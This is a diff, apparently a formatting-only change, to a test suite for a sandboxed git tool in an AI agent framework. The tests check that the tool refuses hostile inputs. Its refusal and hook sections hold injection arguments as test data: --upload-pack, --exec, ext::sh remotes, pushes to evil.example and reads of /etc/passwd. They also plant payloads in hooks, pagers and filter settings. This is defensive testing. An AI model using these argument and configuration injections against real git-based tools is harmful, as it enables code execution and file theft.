@@ -1,6 +1,16 @@
 import { expect } from "chai";
 import { execFileSync } from "node:child_process";
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { toolContract } from "agentensemble/testing";
@@ -11,14 +21,23 @@ import type { GitRequest, GitToolOptions } from "../../../../src/plugins/tools/g
 import { gitTool } from "../../../../src/plugins/tools/git/index.js";
 import { rejectionOf } from "../../../support/rejection.js";
 
-const IDENTITY = { GIT_AUTHOR_NAME: "A", GIT_AUTHOR_EMAIL: "a@example.test", GIT_COMMITTER_NAME: "A", GIT_COMMITTER_EMAIL: "a@example.test" };
+const IDENTITY = {
+  GIT_AUTHOR_NAME: "A",
+  GIT_AUTHOR_EMAIL: "a@example.test",
+  GIT_COMMITTER_NAME: "A",
+  GIT_COMMITTER_EMAIL: "a@example.test",
+};
 const env = { ...IDENTITY, GIT_CONFIG_GLOBAL: "/dev/null" };
 
 let parent: string;
 let dir: string;
 
 function git(...args: readonly string[]): string {
-  return execFileSync("git", ["-C", dir, ...args], { env: { ...process.env, ...env }, encoding: "utf8", stdio: "pipe" });
+  return execFileSync("git", ["-C", dir, ...args], {
+    env: { ...process.env, ...env },
+    encoding: "utf8",
+    stdio: "pipe",
+  });
 }
 
 function write(file: string, text: string, mode = 0o644): void {
@@ -46,7 +65,8 @@ function copyRepository(): void {
   cpSync(model, parent, { recursive: true });
 }
 
-const newTool = (options: Partial<GitToolOptions> = {}): Tool<GitRequest> => gitTool({ baseDir: dir, env, ...options });
+const newTool = (options: Partial<GitToolOptions> = {}): Tool<GitRequest> =>
+  gitTool({ baseDir: dir, env, ...options });
 
 async function call(input: unknown, tool = newTool()): Promise<ToolResult> {
   const context = { signal: new AbortController().signal } as ToolContext; // what this tool uses of it
@@ -72,8 +92,19 @@ afterEach(() => rmSync(parent, { recursive: true, force: true }));
 
 toolContract("gitTool", {
   create: () => newTool(),
-  valid: [{ command: "status" }, { command: "log", args: ["-1"] }, { command: "diff", paths: ["a.txt"] }],
-  invalid: [{}, null, { command: 1 }, { command: "log", args: "--oneline" }, { command: "log", cwd: "/" }, { command: "log", args: [1] }],
+  valid: [
+    { command: "status" },
+    { command: "log", args: ["-1"] },
+    { command: "diff", paths: ["a.txt"] },
+  ],
+  invalid: [
+    {},
+    null,
+    { command: 1 },
+    { command: "log", args: "--oneline" },
+    { command: "log", cwd: "/" },
+    { command: "log", args: [1] },
+  ],
   failing: [{ command: "log", args: ["no-such-branch"] }, { command: "worktree" }],
 });
 
@@ -83,17 +114,25 @@ describe("gitTool", function () {
   it("does a day's work", async () => {
     write("b.txt", "two\n");
     expect(await succeed({ command: "status", args: ["-s"] })).to.equal("?? b.txt");
-    expect(await succeed({ command: "add", paths: ["b.txt"] })).to.equal("git add completed successfully");
+    expect(await succeed({ command: "add", paths: ["b.txt"] })).to.equal(
+      "git add completed successfully",
+    );
     await succeed({ command: "commit", message: "-m is no option here\n\nSecond line; $(id)" });
-    expect(await succeed({ command: "log", args: ["-n", "1", "--format=%B"] })).to.equal("-m is no option here\n\nSecond line; $(id)");
+    expect(await succeed({ command: "log", args: ["-n", "1", "--format=%B"] })).to.equal(
+      "-m is no option here\n\nSecond line; $(id)",
+    );
     expect(await succeed({ command: "checkout", args: ["-b", "fix"] })).to.contain("fix");
     write("a.txt", "three\n");
     expect(await succeed({ command: "diff", args: ["--stat"] })).to.contain("a.txt");
     await succeed({ command: "commit", args: ["-am", "Third"] });
     await succeed({ command: "checkout", args: ["main"] });
     await succeed({ command: "merge", args: ["--no-ff", "fix"], message: "Merge it" });
-    expect(await succeed({ command: "log", args: ["--oneline", "--first-parent", "-3", "--format=%s"] })).to.match(/^Merge it\n/);
-    expect(await succeed({ command: "branch", args: ["-d", "fix"] })).to.contain("Deleted branch fix");
+    expect(
+      await succeed({ command: "log", args: ["--oneline", "--first-parent", "-3", "--format=%s"] }),
+    ).to.match(/^Merge it\n/);
+    expect(await succeed({ command: "branch", args: ["-d", "fix"] })).to.contain(
+      "Deleted branch fix",
+    );
     await succeed({ command: "tag", args: ["v1"], message: "One" });
     expect(await succeed({ command: "tag" })).to.equal("v1");
     write("a.txt", "four\n");
@@ -121,7 +160,9 @@ describe("gitTool", function () {
     const remote = join(parent, "remote.git");
     git("init", "-q", "--bare", remote);
     git("remote", "add", "origin", remote);
-    expect(await fail({ command: "push", args: ["-u", "origin", "main"] })).to.contain("not allowed");
+    expect(await fail({ command: "push", args: ["-u", "origin", "main"] })).to.contain(
+      "not allowed",
+    );
     const tool = newTool({ protocols: ["file"] });
     await succeed({ command: "push", args: ["-u", "origin", "main"] }, tool);
     await succeed({ command: "fetch", args: ["origin"] }, tool);
@@ -140,7 +181,9 @@ describe("gitTool", function () {
     await succeed({ command: "add", args: ["--", "-rf"] });
     expect(git("ls-files")).to.contain("-rf");
     rmSync(join(dir, "a.txt"));
-    expect(await succeed({ command: "diff", args: ["--name-status", "HEAD", "--", "a.txt"] })).to.contain("D\ta.txt");
+    expect(
+      await succeed({ command: "diff", args: ["--name-status", "HEAD", "--", "a.txt"] }),
+    ).to.contain("D\ta.txt");
     await succeed({ command: "checkout", args: ["HEAD", "--", "a.txt"] });
     expect(existsSync(join(dir, "a.txt"))).to.equal(true);
   });
@@ -152,12 +195,20 @@ describe("gitTool", function () {
   });
 
   it("cuts long output, and ends at its time limit", async () => {
-    expect(await succeed({ command: "show" }, newTool({ maxOutputBytes: 10 }))).to.match(/^.{10}\n\[output truncated at 10 bytes\]$/);
+    expect(await succeed({ command: "show" }, newTool({ maxOutputBytes: 10 }))).to.match(
+      /^.{10}\n\[output truncated at 10 bytes\]$/,
+    );
     const slow = join(parent, "bin");
     mkdirSync(slow);
-    writeFileSync(join(slow, "git"), '#!/bin/sh\ncase "$*" in *config*|*ls-files*) exit 0;; esac\nsleep 60\n', { mode: 0o755 });
+    writeFileSync(
+      join(slow, "git"),
+      '#!/bin/sh\ncase "$*" in *config*|*ls-files*) exit 0;; esac\nsleep 60\n',
+      { mode: 0o755 },
+    );
     const tool = newTool({ timeoutMs: 400, env: { ...env, PATH: `${slow}:/usr/bin:/bin` } });
-    expect(await fail({ command: "status" }, tool)).to.equal("Git command timed out after 0.4 seconds");
+    expect(await fail({ command: "status" }, tool)).to.equal(
+      "Git command timed out after 0.4 seconds",
+    );
   });
 
   it("hides names and passwords of addresses in git's errors", async () => {
@@ -170,20 +221,36 @@ describe("gitTool", function () {
         mode: 0o755,
       },
     );
-    const message = await fail({ command: "fetch" }, newTool({ env: { PATH: `${fake}:/usr/bin:/bin` } }));
+    const message = await fail(
+      { command: "fetch" },
+      newTool({ env: { PATH: `${fake}:/usr/bin:/bin` } }),
+    );
     expect(message).to.equal("fatal: https://***@example.test/x");
   });
 
   it("fails the task where git or its sandbox is missing", async () => {
-    await rejectionOf(ToolConfigurationError, call({ command: "status" }, newTool({ env: { PATH: "/nowhere" } })));
-    await rejectionOf(ToolConfigurationError, call({ command: "status" }, newTool({ sandbox: ["no-such-sandbox"] })));
+    await rejectionOf(
+      ToolConfigurationError,
+      call({ command: "status" }, newTool({ env: { PATH: "/nowhere" } })),
+    );
+    await rejectionOf(
+      ToolConfigurationError,
+      call({ command: "status" }, newTool({ sandbox: ["no-such-sandbox"] })),
+    );
   });
 
   it("inherits no variables but those allowed", async () => {
     process.env["GIT_DIR"] = "/nowhere";
     try {
-      expect(await succeed({ command: "status", args: ["-s"] })).to.equal("git status completed successfully");
-      expect(await succeed({ command: "status", args: ["-s"] }, newTool({ allowedEnv: ["PATH", "GIT_DIR"] }))).to.contain("completed");
+      expect(await succeed({ command: "status", args: ["-s"] })).to.equal(
+        "git status completed successfully",
+      );
+      expect(
+        await succeed(
+          { command: "status", args: ["-s"] },
+          newTool({ allowedEnv: ["PATH", "GIT_DIR"] }),
+        ),
+      ).to.contain("completed");
     } finally {
       delete process.env["GIT_DIR"];
     }
@@ -194,7 +261,10 @@ describe("gitTool", function () {
       ["an output file", { command: "log", args: ["--output=../pwned"] }],
       ["an abbreviated output file", { command: "log", args: ["--outp=../pwned"] }],
       ["an output file as two arguments", { command: "diff", args: ["--output", "../pwned"] }],
-      ["files outside by --no-index", { command: "diff", args: ["--no-index", "/etc/passwd", "/etc/group"] }],
+      [
+        "files outside by --no-index",
+        { command: "diff", args: ["--no-index", "/etc/passwd", "/etc/group"] },
+      ],
       ["files outside without it", { command: "diff", args: ["/etc/passwd", "/etc/group"] }],
       ["files outside after --", { command: "diff", args: ["--", "/etc/passwd", "/etc/group"] }],
       ["a file outside by ..", { command: "add", args: ["../outside.txt"] }],
@@ -202,9 +272,15 @@ describe("gitTool", function () {
       ["a file outside by a linked folder", { command: "add", paths: ["link/outside.txt"] }],
       ["a program to pack", { command: "fetch", args: ["--upload-pack=touch pwned", "origin"] }],
       ["a program to receive", { command: "push", args: ["--receive-pack=touch pwned", "origin"] }],
-      ["a program to receive, by its other name", { command: "push", args: ["--exec", "touch pwned", "origin"] }],
+      [
+        "a program to receive, by its other name",
+        { command: "push", args: ["--exec", "touch pwned", "origin"] },
+      ],
       ["a program between commits", { command: "rebase", args: ["-x", "touch pwned", "HEAD"] }],
-      ["a program between commits, joined", { command: "rebase", args: ["--exec=touch pwned", "HEAD"] }],
+      [
+        "a program between commits, joined",
+        { command: "rebase", args: ["--exec=touch pwned", "HEAD"] },
+      ],
       ["an interactive rebase", { command: "rebase", args: ["-i", "HEAD"] }],
       ["another merge program", { command: "merge", args: ["-s", "touch", "HEAD"] }],
       ["an odd merge option", { command: "merge", args: ["-Xsubtree=/etc", "HEAD"] }],
@@ -215,10 +291,16 @@ describe("gitTool", function () {
       ["an external diff", { command: "diff", args: ["--ext-diff"] }],
       ["a file as filter", { command: "diff", args: ["--textconv"] }],
       ["an order file", { command: "diff", args: ["-O/etc/passwd"] }],
-      ["a list of paths from a file", { command: "add", args: ["--pathspec-from-file=/etc/passwd"] }],
+      [
+        "a list of paths from a file",
+        { command: "add", args: ["--pathspec-from-file=/etc/passwd"] },
+      ],
       ["a message from a file", { command: "commit", args: ["-F", "/etc/passwd"] }],
       ["a template from a file", { command: "commit", args: ["--template=/etc/passwd"] }],
-      ["an address instead of a remote", { command: "push", args: ["https://evil.example/x.git", "main"] }],
+      [
+        "an address instead of a remote",
+        { command: "push", args: ["https://evil.example/x.git", "main"] },
+      ],
       ["a program as remote", { command: "fetch", args: ["ext::sh -c 'touch pwned'"] }],
       ["a folder as remote", { command: "pull", args: ["../other"] }],
       ["a host as remote", { command: "push", args: ["evil.example:x.git"] }],
@@ -248,7 +330,9 @@ describe("gitTool", function () {
         git("remote", "add", "origin", "https://example.invalid/x.git");
         const message = await fail(input);
         expect(message).to.not.match(/root:|secret/);
-        expect([join(parent, "pwned"), join(dir, "pwned"), "pwned"].filter((file) => existsSync(file))).to.deep.equal([]);
+        expect(
+          [join(parent, "pwned"), join(dir, "pwned"), "pwned"].filter((file) => existsSync(file)),
+        ).to.deep.equal([]);
       });
     }
 
@@ -262,13 +346,19 @@ describe("gitTool", function () {
         [`${"a".repeat(256)}/b`, "path holds a name of more than 255 bytes"],
         ["nowhere/a.txt", "path resolves outside the workspace directory"],
       ];
-      for (const [path, problem] of denied) expect(await fail({ command: "add", paths: [path] })).to.equal(`Access denied: ${problem}`);
+      for (const [path, problem] of denied)
+        expect(await fail({ command: "add", paths: [path] })).to.equal(`Access denied: ${problem}`);
     });
 
     it("names the commands there are", async () => {
-      const all = "add, branch, checkout, clean, commit, diff, fetch, log, merge, pull, push, rebase, reset, show, stash, status, tag";
-      expect(await fail({ command: "daemon" })).to.equal(`Unknown git command: daemon. Allowed: ${all}`);
-      expect(await fail({ command: "push" }, newTool({ allow: ["status", "log"] }))).to.equal("Unknown git command: push. Allowed: log, status");
+      const all =
+        "add, branch, checkout, clean, commit, diff, fetch, log, merge, pull, push, rebase, reset, show, stash, status, tag";
+      expect(await fail({ command: "daemon" })).to.equal(
+        `Unknown git command: daemon. Allowed: ${all}`,
+      );
+      expect(await fail({ command: "push" }, newTool({ allow: ["status", "log"] }))).to.equal(
+        "Unknown git command: push. Allowed: log, status",
+      );
     });
   });
 
@@ -277,7 +367,13 @@ describe("gitTool", function () {
     const payload = (): string => `touch ${join(parent, "pwned")}`;
 
     it("no hook", async () => {
-      for (const hook of ["pre-commit", "post-commit", "post-checkout", "commit-msg", "reference-transaction"]) {
+      for (const hook of [
+        "pre-commit",
+        "post-commit",
+        "post-checkout",
+        "commit-msg",
+        "reference-transaction",
+      ]) {
         write(`.git/hooks/${hook}`, `#!/bin/sh\n${payload()}\n`, 0o755);
       }
       git("config", "core.hooksPath", ".git/hooks");
@@ -288,7 +384,15 @@ describe("gitTool", function () {
       expect(pwned()).to.equal(false);
     });
 
-    for (const key of ["core.fsmonitor", "core.pager", "pager.log", "core.editor", "sequence.editor", "alias.status", "core.askPass"]) {
+    for (const key of [
+      "core.fsmonitor",
+      "core.pager",
+      "pager.log",
+      "core.editor",
+      "sequence.editor",
+      "alias.status",
+      "core.askPass",
+    ]) {
       it(`not ${key}`, async () => {
         git("config", key, key === "alias.status" ? `!${payload()}` : payload());
         write("a.txt", "changed\n");
@@ -323,7 +427,9 @@ describe("gitTool", function () {
         write(".gitattributes", "*.txt filter=evil diff=evil merge=evil\n");
         write("a.txt", "changed\n");
         git("config", key, payload());
-        expect(await fail(input)).to.contain(`Refused: the repository's own configuration names programs that git would run (${key.toLowerCase()})`);
+        expect(await fail(input)).to.contain(
+          `Refused: the repository's own configuration names programs that git would run (${key.toLowerCase()})`,
+        );
         expect(pwned()).to.equal(false);
       });
     }
@@ -349,7 +455,12 @@ describe("gitTool", function () {
         "core.sshCommand": payload(),
       };
       for (const [key, value] of Object.entries(settings)) git("config", key, value);
-      for (const input of [{ command: "show" }, { command: "log", args: ["-p"] }, { command: "checkout", paths: ["a.txt"] }]) await fail(input);
+      for (const input of [
+        { command: "show" },
+        { command: "log", args: ["-p"] },
+        { command: "checkout", paths: ["a.txt"] },
+      ])
+        await fail(input);
       expect(pwned()).to.equal(false);
     });
 
@@ -370,24 +481,43 @@ describe("gitTool", function () {
       git("-C", "sub", "config", "filter.evil.clean", payload());
       write("sub/.gitattributes", "* filter=evil\n");
       write("sub/a.txt", "two\n");
-      for (const input of [{ command: "add", args: ["-u"] }, { command: "commit", args: ["--dry-run"] }, { command: "stash" }])
-        expect(await fail(input)).to.contain("Refused: a submodule's own configuration names programs that git would run (filter.evil.clean)");
+      for (const input of [
+        { command: "add", args: ["-u"] },
+        { command: "commit", args: ["--dry-run"] },
+        { command: "stash" },
+      ])
+        expect(await fail(input)).to.contain(
+          "Refused: a submodule's own configuration names programs that git would run (filter.evil.clean)",
+        );
       await succeed({ command: "status" });
-      await succeed({ command: "add", args: ["-u"] }, newTool({ trustedConfig: ["filter.evil.clean"] }));
+      await succeed(
+        { command: "add", args: ["-u"] },
+        newTool({ trustedConfig: ["filter.evil.clean"] }),
+      );
       expect(pwned(), "what is trusted").to.equal(true);
     });
 
     it("unless the setting is trusted", async () => {
       git("config", "filter.lfs.clean", "cat");
       git("config", "filter.other.clean", "cat");
-      expect(await fail({ command: "status" }, newTool({ trustedConfig: ["filter.lfs.*"] }))).to.contain("(filter.other.clean)");
-      await succeed({ command: "status" }, newTool({ trustedConfig: ["filter.LFS.*", "filter.other.clean"] }));
+      expect(
+        await fail({ command: "status" }, newTool({ trustedConfig: ["filter.lfs.*"] })),
+      ).to.contain("(filter.other.clean)");
+      await succeed(
+        { command: "status" },
+        newTool({ trustedConfig: ["filter.LFS.*", "filter.other.clean"] }),
+      );
     });
 
     it("nor a rebase's list of commands", async () => {
       mkdirSync(join(dir, ".git/rebase-merge"));
-      write(".git/rebase-merge/git-rebase-todo", `pick ${git("rev-parse", "HEAD").trim()} First\nexec ${payload()}\n`);
-      expect(await fail({ command: "rebase", args: ["--continue"] })).to.contain("would run commands");
+      write(
+        ".git/rebase-merge/git-rebase-todo",
+        `pick ${git("rev-parse", "HEAD").trim()} First\nexec ${payload()}\n`,
+      );
+      expect(await fail({ command: "rebase", args: ["--continue"] })).to.contain(
+        "would run commands",
+      );
       expect(pwned()).to.equal(false);
     });
   });
@@ -396,7 +526,9 @@ describe("gitTool", function () {
     it("when a setting names another working tree", async () => {
       writeFileSync(join(parent, "outside.txt"), "secret");
       git("config", "core.worktree", parent);
-      expect(await succeed({ command: "status", args: ["-s", "-uall"] })).to.not.contain("outside.txt");
+      expect(await succeed({ command: "status", args: ["-s", "-uall"] })).to.not.contain(
+        "outside.txt",
+      );
     });
 
     it("when .git is replaced by a file or a link that leads elsewhere", async () => {
@@ -413,14 +545,26 @@ describe("gitTool", function () {
 
     it("and does not use one further up", async () => {
       mkdirSync(join(dir, "sub"));
-      expect(await fail({ command: "log" }, newTool({ baseDir: join(dir, "sub") }))).to.contain("Not a git repository");
+      expect(await fail({ command: "log" }, newTool({ baseDir: join(dir, "sub") }))).to.contain(
+        "Not a git repository",
+      );
     });
 
     it("also in a linked working tree, or where its folder is reached by a link", async () => {
       git("worktree", "add", "-q", "-b", "linked", join(parent, "linked"));
-      expect(await succeed({ command: "branch", args: ["--show-current"] }, newTool({ baseDir: join(parent, "linked") }))).to.equal("linked");
+      expect(
+        await succeed(
+          { command: "branch", args: ["--show-current"] },
+          newTool({ baseDir: join(parent, "linked") }),
+        ),
+      ).to.equal("linked");
       symlinkSync(dir, join(parent, "alias"));
-      expect(await succeed({ command: "log", args: ["--oneline"], paths: ["a.txt"] }, newTool({ baseDir: join(parent, "alias") }))).to.contain("First");
+      expect(
+        await succeed(
+          { command: "log", args: ["--oneline"], paths: ["a.txt"] },
+          newTool({ baseDir: join(parent, "alias") }),
+        ),
+      ).to.contain("First");
     });
   });
 
@@ -474,7 +618,9 @@ describe("gitTool", function () {
       { command: "fetch", args: ["--force"] },
       { command: "pull", args: ["--rebase"] },
     ];
-    for (const input of looking) it(`is not needed to look: ${JSON.stringify(input)}`, () => expect(newTool().needsApproval?.(input)).to.equal(false));
+    for (const input of looking)
+      it(`is not needed to look: ${JSON.stringify(input)}`, () =>
+        expect(newTool().needsApproval?.(input)).to.equal(false));
     for (const input of changing) {
       it(`is needed to change something: ${JSON.stringify(input)}`, () => {
         expect(newTool().needsApproval?.(input)).to.equal(true);
@@ -488,31 +634,60 @@ describe("gitTool", function () {
     });
 
     it("shows the whole command, with odd arguments in quotes", () => {
-      const show = (input: GitRequest): string | undefined => newTool().approvalDescription?.(input);
-      expect(show({ command: "reset", args: ["--hard", "HEAD~1"] })).to.equal("Execute git reset --hard HEAD~1");
-      expect(show({ command: "commit", args: ["-a"], message: "A\nB", paths: ["a b"] })).to.equal('Execute git commit -a --message "A\\nB" -- "a b"');
+      const show = (input: GitRequest): string | undefined =>
+        newTool().approvalDescription?.(input);
+      expect(show({ command: "reset", args: ["--hard", "HEAD~1"] })).to.equal(
+        "Execute git reset --hard HEAD~1",
+      );
+      expect(show({ command: "commit", args: ["-a"], message: "A\nB", paths: ["a b"] })).to.equal(
+        'Execute git commit -a --message "A\\nB" -- "a b"',
+      );
     });
   });
 
   it("says what its commands do to the world, and runs by itself", () => {
-    expect(newTool()).to.include({ name: "git", effect: "send", untrusted: true, sequential: true, requireApproval: true });
+    expect(newTool()).to.include({
+      name: "git",
+      effect: "send",
+      untrusted: true,
+      sequential: true,
+      requireApproval: true,
+    });
     expect(newTool({ allow: ["status", "commit"] }).effect).to.equal("write");
     expect(newTool({ allow: ["status", "log"] }).effect).to.equal("read");
     const { effectOf } = newTool();
-    const effects = [{ command: "status" }, { command: "commit", message: "m" }, { command: "push" }, { command: "no-such" }].map((input) => effectOf?.(input));
+    const effects = [
+      { command: "status" },
+      { command: "commit", message: "m" },
+      { command: "push" },
+      { command: "no-such" },
+    ].map((input) => effectOf?.(input));
     expect(effects).to.deep.equal(["read", "write", "send", "read"]); // of each call: what is refused does nothing
     expect(newTool({ requireApproval: false }).requireApproval).to.equal(false);
   });
 
   it("tells the model which commands it may use", () => {
-    const { jsonSchema } = newTool({ allow: ["log", "show"] }).input as { readonly jsonSchema: { readonly properties: { readonly command: object } } }; // a pair
-    expect(jsonSchema.properties.command).to.deep.include({ type: "string", enum: ["log", "show"] });
+    const { jsonSchema } = newTool({ allow: ["log", "show"] }).input as {
+      readonly jsonSchema: { readonly properties: { readonly command: object } };
+    }; // a pair
+    expect(jsonSchema.properties.command).to.deep.include({
+      type: "string",
+      enum: ["log", "show"],
+    });
   });
 
   const wrong: readonly (readonly [string, () => object, string])[] = [
     ["no folder", () => ({}), "baseDir must be an existing directory"],
-    ["a folder that is not there", () => ({ baseDir: join(dir, "gone") }), "baseDir must be an existing directory"],
-    ["a file as folder", () => ({ baseDir: join(dir, "a.txt") }), "baseDir must be an existing directory"],
+    [
+      "a folder that is not there",
+      () => ({ baseDir: join(dir, "gone") }),
+      "baseDir must be an existing directory",
+    ],
+    [
+      "a file as folder",
+      () => ({ baseDir: join(dir, "a.txt") }),
+      "baseDir must be an existing directory",
+    ],
     ["an unknown command", () => ({ baseDir: dir, allow: ["stauts"] }), "Did you mean 'status'?"],
     ["no command at all", () => ({ baseDir: dir, allow: [] }), "at least one"],
     ["an unsafe protocol", () => ({ baseDir: dir, protocols: ["ext"] }), "protocols"],
